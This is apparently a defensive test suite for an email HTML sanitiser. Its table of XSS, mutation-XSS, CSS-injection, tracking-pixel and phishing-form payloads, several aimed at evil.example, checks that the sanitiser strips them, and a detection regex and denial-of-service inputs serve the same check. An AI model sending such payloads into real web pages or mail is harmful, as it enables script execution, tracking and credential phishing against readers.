import type { ParsedAttachment } from '../parse.types';
import { safeHtml } from './safe-html';

const PNG = Uint8Array.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 1, 2, 3]);
const attachment = (contentId: string, content: Uint8Array, type = 'image/png'): ParsedAttachment => ({
  name: 'x',
  type,
  size: content.length,
  content,
  contentId,
});
const bodyOf = (html: string, attachments: ParsedAttachment[] = []): string =>
  /<body>([^]*)<\/body>/.exec(safeHtml(html, attachments))?.[1] ?? 'no body';

/** What a browser could run, load, send or be led away by. */
const HARM =
  /<(script|svg|math|style|iframe|object|embed|form|input|button|base|meta|link|a|area|template|video|audio)\b|\son\w+\s*=|\b(href|src(?!="data:image\/(png|jpeg|gif);base64,)|srcset|action|formaction|background|ping|poster|xlink:href)\s*=|url\s*\(|expression\s*\(|@import|position\s*:|behavior|-moz-binding|srcdoc/i;
const tagsOnly = (html: string): string => html.replace(/>[^<]*</g, '><');

describe('safeHtml', () => {
  it.each([
    ['an image that fails', '<img src=x onerror=alert(1)>'],
    ['a script in svg', '<svg><script>alert(1)</script></svg>'],
    ['svg that runs by itself', '<svg onload=alert(1)><animate onbegin=alert(1) attributeName=x dur=1s>'],
    [
      'a mutation through math',
      '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    ],
    ['a mutation through noscript', '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>'],
    ['a mutation through a comment', '<!--<img src="--><img src=x onerror=alert(1)//">'],
    ['a page that leaves by itself', '<meta http-equiv=refresh content="0;url=https://evil.example/">x'],
    ['another base', '<base href="https://evil.example/"><img src="a.png">'],
    ['a form', '<form action="https://evil.example/"><input name=password><button formaction=x>Go</button></form>'],
    [
      'a remote style sheet',
      '<link rel=stylesheet href="https://evil.example/x.css"><style>@import url(//evil)</style>',
    ],
    ['a script address', '<a href="javascript:alert(1)">x</a><a href=" java&#x09;script:alert(1)">y</a>'],
    ['a data address', '<a href="data:text/html,<script>alert(1)</script>">x</a><img src="data:image/svg+xml,<svg/>">'],
    ['a style that loads', '<p style="background:url(https://evil.example/p.png);color:red">x</p>'],
    ['a style that loads by a disguise', '<p style="background-color:u\\72l(//evil);list-style:url(//evil)">x</p>'],
    ['a style that runs', '<p style="width:expression(alert(1));-moz-binding:url(//evil);behavior:url(//evil)">x</p>'],
    ['a layer over the page', '<div style="position:fixed;top:0;margin-left:-99px;z-index:9">x</div>'],
    [
      'pictures for every screen',
      '<img srcset="https://evil.example/1x.png 1x"><picture><source srcset=//evil></picture>',
    ],
    ['a tracker', '<img src="https://evil.example/seen.gif" width=1 height=1><table background="//evil"><tr><td>x'],
    ['an object', '<object data="https://evil.example/x.swf"><embed src=x></object>'],
    ['a frame', '<iframe src="https://evil.example/" srcdoc="<script>alert(1)</script>"></iframe>'],
    ['handlers without spaces', '<p/onclick=alert(1)/style=color:red>x<details open ontoggle=alert(1)>y'],
    [
      'a picture map',
      '<map name=m><area href="https://evil.example/" shape=default ping=//evil></map><img usemap=#m src=x>',
    ],
    ['a name that is no name', '<img src="x` `<script>alert(1)</script>"` `><p "><img src=x onerror=alert(1)>">'],
    ['unclosed tags', '<img src=x onerror=alert(1) <script>alert(1)//<a href="//evil'],
    ['raw text elements', '<xmp><img src=x onerror=alert(1)></xmp><plaintext><img src=x onerror=alert(1)>'],
  ])('takes the harm out of %s', (_what, hostile) => {
    expect(tagsOnly(`>${hostile}<`)).toMatch(HARM);
    const body = bodyOf(hostile);
    expect(tagsOnly(`>${body}<`)).not.toMatch(HARM);
  });

  it('keeps words, tables and plain styles', () => {
    const html =
      '<h1 style="color:#c00;font-size:14px">検知</h1><table border=1 cellpadding=4><tr><td colspan=2 bgcolor="#eee" ' +
      'style="border:1px solid #ccc;padding:4px 8px">75% &lt;b&gt; &amp; more</td></tr></table>' +
      '<p style="font-family:\'MS PGothic\',sans-serif">a<br>b</p>';
    expect(bodyOf(html)).toBe(
      '<h1 style="color:#c00;font-size:14px">検知</h1><table border="1" cellpadding="4"><tr><td colspan="2" bgcolor="#eee" ' +
        'style="border:1px solid #ccc;padding:4px 8px">75% &lt;b&gt; &amp; more</td></tr></table>' +
        '<p style="font-family:\'MS PGothic\',sans-serif">a<br />b</p>',
    );
  });

  it('disarms links and shows where they lead, without signs that turn the reading direction', () => {
    expect(bodyOf('<p><a href="https://evil.example/?a=1&b=2" title=x>Your <b>bank</b></a>.</p>')).toBe(
      '<p><span>Your <b>bank</b></span> <bdi class="owl-address">[https://evil.example/?a=1&amp;b=2]</bdi>.</p>',
    );
    expect(bodyOf('<a href="https://a.example/\u202Efdp.exe">x</a><a name=top>y</a>')).toBe(
      '<span>x</span> <bdi class="owl-address">[https://a.example/fdp.exe]</bdi><span>y</span>',
    );
    expect(bodyOf('<a href=1>x<a href=2>y</a></a>')).toContain('[1]');
    expect(bodyOf('<a data-address="https://good.example" href="https://evil.example">x</a>')).toContain(
      '[https://evil',
    );
  });

  it('shows pictures that the mail brought, judged by their octets, and a placeholder for every other', () => {
    const pictures = [attachment('logo@x', PNG), attachment('svg@x', Buffer.from('<svg onload=alert(1)>'))];
    expect(bodyOf('<img src="cid:logo@x" alt="印" width=20 onload=x>', pictures)).toBe(
      `<img src="data:image/png;base64,${Buffer.from(PNG).toString('base64')}" alt="印" width="20" />`,
    );
    for (const address of ['cid:svg@x', 'cid:other@x', 'https://evil.example/x.png', 'file:///etc/passwd'])
      expect(bodyOf(`<img src="${address}" alt="印">`, pictures)).toBe('<span class="owl-image">▧ 印</span>');
  });

  it('stops writing pictures out before the page grows without end', () => {
    const large = attachment(
      'large',
      Uint8Array.from({ length: 3_000_000 }, (_, at) => PNG[at] ?? 0),
    );
    const body = bodyOf('<img src="cid:large">'.repeat(4), [large]);
    expect(body.match(/<img /g)).toHaveLength(2);
    expect(body.match(/owl-image/g)).toHaveLength(2);
  });

  it('is one page with its charset first, and no address for the pages it would lead to', () => {
    expect(safeHtml('')).toMatch(
      /^<!doctype html><html><head><meta charset="utf-8"><meta name="referrer" content="no-referrer">/,
    );
  });

  it.each([
    ['<div>'.repeat(200_000)],
    ['<p style="color:red;x:y">'.repeat(40_000)],
    ['<a href=x>'.repeat(100_000)],
    ['<'.repeat(1_000_000)],
    ['&'.repeat(1_000_000)],
    ['<!--'.repeat(250_000)],
    [`<p ${'a=b '.repeat(250_000)}>`],
    [`<p style="${'color:red;'.repeat(100_000)}">`],
    [`<p style="font-family:${"a'".repeat(400_000)}">`],
    ['<table><tr><td>'.repeat(60_000)],
    ['</p>'.repeat(200_000)],
  ])('ends soon on hostile markup', (html) => {
    const started = process.cpuUsage();
    safeHtml(html);
    // Its own work, in microseconds: the machine may have others to do.
    expect(process.cpuUsage(started).user).toBeLessThan(3_000_000);
  });
});
